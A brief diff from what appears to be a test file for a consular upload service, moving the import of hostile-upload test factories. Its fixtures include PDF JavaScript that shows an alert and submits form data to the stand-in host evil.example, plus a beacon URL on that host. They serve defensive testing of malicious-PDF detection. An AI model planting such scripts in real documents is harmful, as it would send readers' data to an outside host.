@@ -9,8 +9,8 @@ import pikepdf
 from pikepdf import Array, Dictionary, Encryption, Name, Pdf, Stream
 
 from services.consular.uploads.content_rules import EICAR
-from tests.factories.hostile_uploads import CLEAN, HostileUpload
 from tests.factories.uploads import PDF, pdf
+from tests.factories.uploads.hostile import CLEAN, HostileUpload
 
 SCRIPT = "app.alert('owned'); this.submitForm('http://evil.example/');"
 ADDRESS = "http://evil.example/beacon"
